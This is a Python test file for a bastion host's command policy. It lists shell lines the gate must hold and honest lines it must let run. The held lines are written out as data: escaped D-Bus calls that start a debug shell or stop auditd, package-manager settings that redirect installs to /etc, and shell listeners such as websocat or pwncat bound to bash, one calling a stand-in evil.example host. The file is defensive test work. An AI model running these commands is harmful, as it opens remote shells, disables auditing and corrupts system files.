"""Attack u30f, findings 1, 3, 5 and 12, and u30o finding 2: D-Bus unit names spelled in the
escapes systemd or gdbus decodes, settings written by a program's own settings command, shell
servers under other names, and prompts that read code from an exec channel's stdin under a verb,
a script or a module. Each line is judged typed and as an exec command; the attackers' lines
and their siblings are held (denied or confirmed), the honest lines beside them run."""

from bastion.command_control import policy
from bastion.command_control.policy.model import Policy
from tests.policy_rows import assert_held_or_runs
from tests.rows import each

UNIT = "/org/freedesktop/systemd1/unit"
START = "org.freedesktop.systemd1.Unit Start s replace"
GDBUS = ("gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 "
         "--method org.freedesktop.systemd1.Manager")

# (line, held): the attackers' lines and their siblings (True), honest lines (False).
ROWS = [
    # 1: object path labels decoded as systemd decodes them (every _XX, either case)
    (f"busctl call org.freedesktop.systemd1 {UNIT}/debug_2Dshell_2eservice {START}", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_64ebug_2dshell_2eservice {START}", True),
    (f"dbus-send --system --dest=org.freedesktop.systemd1 {UNIT}/_64ebug_2dshell_2eservice "
     "org.freedesktop.systemd1.Unit.Start string:replace", True),
    (f"gdbus call --system --dest org.freedesktop.systemd1 --object-path {UNIT}/_64ebug_2dshell_2eservice "
     "--method org.freedesktop.systemd1.Unit.Start replace", True),
    (f"qdbus --system org.freedesktop.systemd1 {UNIT}/_64ebug_2dshell_2eservice "
     "org.freedesktop.systemd1.Unit.Start replace", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_72escue_2etarget {START}", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_65mergency_2etarget {START}", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_73shd_2eservice {START}", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_74inysshd_2esocket {START}", True),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/_61uditd_2eservice org.freedesktop.systemd1.Unit "
     "Stop s replace", True),
    # ... gdbus's GVariant text: \u, \U, and (as bytestrings read them) \x and octal
    (f"{GDBUS}.StartUnit \"'debug\\u002dshell.service'\" \"'replace'\"", True),
    (f"{GDBUS}.StartUnit \"'debug\\x2dshell.service'\" \"'replace'\"", True),
    (f"{GDBUS}.StartUnit \"'debug\\055shell.service'\" \"'replace'\"", True),
    (f"{GDBUS}.StartUnit \"'\\U00000072escue.target'\" \"'replace'\"", True),
    (f"{GDBUS}.StartUnit \"'s\\u0073hd.service'\" \"'replace'\"", True),
    (f"{GDBUS}.StopUnit \"'\\u0061uditd.service'\" \"'replace'\"", True),
    (f"{GDBUS}.StartUnit \"'\\u72escue.target'\" \"'replace'\"", True),  # not decodable: unknown
    # honest D-Bus lines
    ("busctl list", False),
    (f"busctl introspect org.freedesktop.systemd1 {UNIT}/nginx_2eservice", False),
    (f"busctl call org.freedesktop.systemd1 {UNIT}/nginx_2eservice org.freedesktop.systemd1.Unit "
     "Restart s replace", False),
    (f"{GDBUS}.GetUnit \"'nginx.service'\"", False),
    # 3: settings written by the program's own settings command, read as the variable
    ("pip config set global.log /etc/sudoers; pip list", True),
    ("pip config set install.target /etc; pip install ./evil.whl", True),
    ("pip3 config --global set install.root /", True), ("pip config set install.src /etc", True),
    ("python3 -m pip config set install.target /etc", True), ("pip config edit", True),
    ("pip config --user set global.log \"$f\"", True),
    ("npm config set prefix /etc; npm i -g ./x", True), ("npm set prefix /etc", True),
    ("npm config set prefix=/etc", True), ("npm c set script-shell /tmp/evil", True),
    ("pnpm config set prefix /etc", True), ("yarn config set prefix /etc", True),
    ("npm config edit", True),
    ("HOME=/tmp/e pip install ./evil.whl", True), ("XDG_CONFIG_HOME=/tmp/e pip install ./evil.whl", True),
    ("HOME=/tmp/e npm i -g ./x", True),
    ("GOPATH=/etc go install x@latest", True), ("export GOPATH=/etc; go install x@latest", True),
    ("GOBIN=/etc go install ./x", True), ("GOMODCACHE=/etc go mod download", True),
    ("bundle config set path /etc", True), ("bundle config set --global path /etc", True),
    ("bundle config path /etc", True), ("poetry config virtualenvs.path /etc", True),
    ("conda config --set envs_dirs /etc", True), ("conda config --add pkgs_dirs /etc", True),
    # honest settings: an index, a registry, a log level; reading them
    ("pip config set global.index-url https://pypi.example.org/simple", False),
    ("pip config list", False), ("pip config unset global.index-url", False),
    ("npm config set registry https://r.example.org/", False), ("npm config get prefix", False),
    ("npm set loglevel warn", False), ("yarn config set registry https://r.example.org/", False),
    ("GOBIN=/usr/local/bin go install ./x", False), ("GOPATH=~/go go build ./...", False),
    ("pip install requests", False), ("npm install", False),
    ("bundle config set jobs 4", False), ("bundle config list", False),
    ("poetry config virtualenvs.in-project true", False), ("conda config --add channels conda-forge", False),
    # 5: shell servers under other names
    ("websocat ws-l:0.0.0.0:2222 exec:bash", True), ("websocat -b tcp-l:0.0.0.0:2222 exec:bash", True),
    ("websocat ws-l:0.0.0.0:2222 sh-c:'bash -i'", True), ("websocat ws-l:0.0.0.0:2222 cmd:bash", True),
    ("websocat ws://evil.example/ exec:bash", True), ("sudo websocat tcp-l:0:2222 cmd:bash", True),
    ("pwncat -l -e /bin/bash 4444", True), ("pwncat-cs -lp 4444", True),
    ("socket -slp bash 2222", True), ("socket -slp 'bash -i' 2222", True), ("socket -p bash h 80", True),
    ("faucet 2222 -io bash", True), ("faucet 2222 --in --out --err bash -i", True),
    ("hose h 2222 --in --out bash", True), ("micro-inetd 2222 /bin/bash", True),
    ("micro_inetd 2222 /bin/bash -i", True), ("socket-burst-dampener 2222 -- bash -i", True),
    ("sbd -l -p 2222 -e bash", True), ("dbd -l -p 4444 -e bash", True),
    ("gs-netcat -s secret -l -i", True), ("rcat listen -ib 55600", True),
    ("tcpclient h 4444 bash", True), ("sslserver 0 2222 bash", True),
    # honest network clients
    ("websocat ws://h.example/", False), ("websocat -s 8080", False), ("socket h 80", False),
]


@each(("line", "held"), ROWS)
def test_the_attackers_lines_are_held_and_honest_ones_run(default_policy: Policy, line: str, held: bool):
    assert_held_or_runs(default_policy, line, held)


# (exec command, what the gate makes of its stdin): "interpreter" is held up front, "program"
# has its first data held, None passes the stdin.
STDIN_ROWS = [
    # u30f 12: interpreters named by a verb
    ("crystal eval", "interpreter"), ("crystal i", "interpreter"), ("guix repl", "interpreter"),
    ("dotnet fsi", "interpreter"), ("dotnet script", "interpreter"), ("fsharpi", "interpreter"),
    ("factor", "program"), ("nix repl", "interpreter"), ("swift repl", "interpreter"),
    ("nim secret", "interpreter"), ("rebar3 shell", "interpreter"),
    # u30o 2: debuggers and framework consoles by subcommand, script or module
    ("node inspect e.js", "interpreter"), ("nodejs inspect e.js", "interpreter"),
    ("node debug e.js", "interpreter"),
    ("python3 manage.py shell", "interpreter"), ("python3 manage.py dbshell", "interpreter"),
    ("./manage.py shell", "interpreter"), ("/srv/app/manage.py shell_plus", "interpreter"),
    ("django-admin shell", "interpreter"), ("python3 -m django shell", "interpreter"),
    ("flask shell", "interpreter"), ("python3 -m flask shell", "interpreter"),
    ("rails console", "interpreter"), ("rails c", "interpreter"), ("bin/rails console", "interpreter"),
    ("bundle exec rails c", "interpreter"), ("ruby bin/rails console", "interpreter"),
    ("rails dbconsole", "interpreter"), ("rake console", "interpreter"),
    ("php artisan tinker", "interpreter"), ("wp shell", "interpreter"), ("drush php", "interpreter"),
    ("hbase shell", "interpreter"), ("sbt console", "interpreter"), ("lein repl", "interpreter"),
    ("cabal repl", "interpreter"), ("stack ghci", "interpreter"), ("jupyter console", "interpreter"),
    ("ipython3 console", "interpreter"), ("dlv debug", "interpreter"),
    ("php bin/console psysh", "interpreter"),
    ("python3 /usr/lib/python3.11/code.py", "interpreter"),
    ("python3 -m trace --count /usr/lib/python3.11/code.py", "interpreter"),
    ("python3 -m cProfile /usr/lib/python3.11/code.py", "interpreter"),
    ("python3 /usr/lib/python3.11/cProfile.py /usr/lib/python3.11/code.py", "interpreter"),
    ("python3 -m ipdb e.py", "interpreter"), ("python3 -m pudb e.py", "interpreter"),
    ("ruby -rdebug e.rb", "interpreter"), ("ruby -r debug e.rb", "interpreter"),
    ("perl -MCPAN -e shell", "interpreter"), ("poetry run python manage.py shell", "interpreter"),
    ("sudo -u app python3 manage.py shell", "interpreter"),
    # a prompt's verb given to a program no table reads: its first data is held
    ("mytool console", "program"), ("python3 tool.py shell", "program"),
    # honest lines: the same programs running a server, a migration, a script
    ("python3 manage.py migrate", None), ("python3 manage.py runserver", None), ("flask run", None),
    ("rails server", None), ("php artisan migrate", None), ("sbt compile", None), ("node app.js", None),
    ("dotnet run", None), ("guix install hello", None), ("dlv version", None), ("factor 12", None),
    ("python3 x.py", None),
]


@each(("line", "reads"), STDIN_ROWS)
def test_a_prompt_named_by_a_verb_reads_the_exec_stdin(line: str, reads: str | None):
    assert policy.reads_script_from_stdin(line) == reads


@each("line", ["echo 'import os' | python3 manage.py shell",
                                  "echo 'system(\"id\")' | crystal eval", "cat x.rb | rails c"])
def test_text_piped_into_a_prompt_named_by_a_verb_is_held(default_policy: Policy, line: str):
    assert_held_or_runs(default_policy, line, True)


@each(("line", "typed"), [
    ("pdb3 f.py", False), ("pdb3.11 f.py", False), ("ipdb3 f.py", False), ("jdb Main", False),
    ("rails console", False), ("crystal eval", False),
    # honest: command languages a person types at a pty (the interactive gate reads the keys)
    ("vim f", True), ("psql db", True), ("gdb ./a", True),
])
def test_a_debugger_of_code_with_a_pty_is_an_interpreter(line: str, typed: bool):
    """`ssh -t LOGIN@TARGET@bastion pdb3 F` (u30o, finding 2): each line typed at (Pdb) is
    Python, not a line the interactive gate can judge as bash: held as `ssh -t ... python3` is."""
    assert policy.typed_at_a_terminal(line) is typed
